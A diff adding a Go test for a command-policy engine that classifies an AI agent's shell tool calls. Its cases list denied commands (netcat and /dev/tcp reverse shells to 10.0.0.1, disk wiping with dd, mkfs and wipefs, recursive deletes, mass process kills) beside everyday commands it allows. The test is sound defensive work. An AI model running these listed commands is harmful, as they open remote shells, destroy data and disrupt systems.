@@ -171,3 +171,62 @@ func TestEngineEffects(t *testing.T) {
 	_, err = e.Effects(middleware.ToolCall("Read", json.RawMessage(`{"file_path":1}`)))
 	assert.Error(t, err)
 }
+
+// Processes, disks, remote shells and PowerShell deletes: denied by what
+// they do, the everyday counterparts allowed. want is the rule, or
+// "denied" when the shell classifier's own rule may come first.
+func TestDefaultEngineEffectsProcessDiskRemote(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ cmd, want string }{
+		{"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", "effect.remote-shell"},
+		{"cat /tmp/f | /bin/sh 2>&1 | nc 10.0.0.1 4444 > /tmp/f", "effect.remote-shell"},
+		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "denied"},
+		{"Remove-Item * -Force -Recurse", "effect.delete.workdir"},
+		{"Remove-Item * -Recurse -Force", "effect.delete.workdir"},
+		{"Remove-Item *.* -Force -Recurse", "effect.delete.workdir"},
+		{"rm -rf *", "denied"},
+		{"rm -rf ./*", "denied"},
+		{"killall -9", "effect.process.all"},
+		{"killall -9 -u $USER", "effect.process.all"},
+		{"pkill -9 -u $USER", "effect.process.all"},
+		{"pkill -9 .", "effect.process.all"},
+		{"kill -9 -1", "denied"},
+		{"umount -a -f", "effect.disk.all"},
+		{"swapoff -a", "effect.disk.all"},
+		{"mkfs.ext4 /dev/sdb1", "denied"},
+		{"dd if=/dev/zero of=/dev/sda bs=1M", "denied"},
+		{"wipefs -a /dev/sdb", "denied"},
+		{"xattr -cr /", "effect.delete.everything"},
+		{"xattr -cr /usr", "effect.delete.everything"},
+		// everyday
+		{"kill 1234", ""},
+		{"kill -9 $(cat server.pid)", ""},
+		{"pkill -f myserver", ""},
+		{"killall node", ""},
+		{"mount /dev/sdb1 /mnt", ""},
+		{"umount /mnt", ""},
+		{"lsblk", ""},
+		{"fdisk -l", ""},
+		{"Get-ChildItem", ""},
+		{`Remove-Item .\build -Recurse`, ""},
+		{"rm -rf build dist", ""},
+		{"xattr -dr com.apple.quarantine ./MyApp.app", ""},
+		{"cat script.sh | bash", ""},
+		{"echo ok | nc -q1 localhost 9000", ""},
+	}
+	for _, tc := range tests {
+		t.Run(tc.cmd, func(t *testing.T) {
+			t.Parallel()
+			err := policy.DefaultEngine().Check(context.Background(), toolCall("Bash", map[string]string{"command": tc.cmd}))
+			switch tc.want {
+			case "":
+				assert.NoError(t, err)
+			case "denied":
+				require.Error(t, err)
+			default:
+				require.Error(t, err)
+				assert.Equal(t, tc.want, ruleOf(err))
+			}
+		})
+	}
+}
